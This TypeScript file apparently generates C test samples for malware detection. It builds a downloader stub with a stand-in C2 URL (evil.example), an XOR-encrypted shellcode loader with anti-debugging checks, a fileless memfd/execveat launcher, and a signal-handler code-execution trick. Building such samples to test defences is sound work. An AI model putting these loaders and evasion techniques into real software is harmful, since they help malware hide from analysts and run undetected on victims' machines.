/** Linux programs with known behaviour, and enough code for UPX. */
export const linuxDownloader = (seed = 0) => {
  const count = 250
  const functions = Array.from(
    { length: count },
    (_, index) =>
      `int f${index}(int a, int b) { for (int i = 0; i < b; i++) a = a * ${index * 7 + 3 + seed} + (a >> ${index % 13}) + b; return a ^ ${index}; }`,
  )
  return `
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
static const char *volatile where = "http://evil.example/c2/gate${seed}.php";
${functions.join('\n')}
int (*volatile all[])(int, int) = { ${functions.map((_, index) => `f${index}`).join(',')} };
int main(int argc, char **argv) {
  char text[200];
  strcpy(text, where);
  printf("%s %d %d\\n", text, argc, all[argc + ${seed % 100}](3, 4));
  int file = open("/tmp/drop${seed}.bin", O_WRONLY | O_CREAT, 0600);
  write(file, text, 10);
  close(file);
  return 0;
}
`
}

const bytesOf = (content: Buffer) => [...content].map((byte) => byte ^ 0x77).join(',')

/** Decrypts code into allocated memory and jumps there, unless it is traced. */
export const linuxLoader = (payload: Buffer) => `
#include <fcntl.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <time.h>
#include <unistd.h>
static unsigned char hidden[] = { ${bytesOf(payload)} };
static int isWatched(void) {
  char text[4096];
  struct timespec before, after, second = { 1, 0 };
  int file = open("/proc/self/status", O_RDONLY);
  long size = read(file, text, sizeof text - 1);
  if (size < 1) return 1;
  text[size] = 0;
  char *tracer = strstr(text, "TracerPid:");
  if (!tracer || tracer[11] != '0' || ptrace(PTRACE_TRACEME, 0, 0, 0) != 0) return 1;
  clock_gettime(CLOCK_MONOTONIC, &before);
  nanosleep(&second, 0);
  clock_gettime(CLOCK_MONOTONIC, &after);
  return after.tv_sec - before.tv_sec < 1 || after.tv_sec - before.tv_sec > 2;
}
int main(void) {
  if (isWatched()) return 1;
  unsigned char *code = mmap(0, sizeof hidden, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  for (unsigned i = 0; i < sizeof hidden; i++) code[i] = hidden[i] ^ 0x77;
  ((void (*)(void))code)();
  return 0;
}
`

/** Writes a program to a memfd and starts it, from a forked child. */
export const linuxStarter = (program: Buffer) => `
#define _GNU_SOURCE
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>
static unsigned char hidden[] = { ${bytesOf(program)} };
extern char **environ;
int main(int argc, char **argv) {
  if (fork() != 0) return 0;
  int file = memfd_create("", 0);
  for (unsigned i = 0; i < sizeof hidden; i++) hidden[i] ^= 0x77;
  for (unsigned at = 0; at < sizeof hidden; ) {
    long done = write(file, hidden + at, sizeof hidden - at > 4096 ? 4096 : sizeof hidden - at);
    if (done < 1) return 1;
    at += done;
  }
  syscall(SYS_execveat, file, "", argv, environ, 0x1000);
  return 1;
}
`

/** Continues from a signal handler that changes the instruction pointer. */
export const linuxSignals = (payload: Buffer) => `
#define _GNU_SOURCE
#include <signal.h>
#include <sys/mman.h>
#include <ucontext.h>
static unsigned char hidden[] = { ${bytesOf(payload)} };
static unsigned char *code;
static void handle(int number, siginfo_t *info, void *context) {
  ((ucontext_t *)context)->uc_mcontext.gregs[REG_RIP] = (long)code;
}
int main(void) {
  struct sigaction action = { 0 };
  action.sa_sigaction = handle;
  action.sa_flags = SA_SIGINFO;
  sigaction(SIGTRAP, &action, 0);
  code = mmap(0, sizeof hidden, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  for (unsigned i = 0; i < sizeof hidden; i++) code[i] = hidden[i] ^ 0x77;
  __asm__ volatile("int3");
  return 0;
}
`
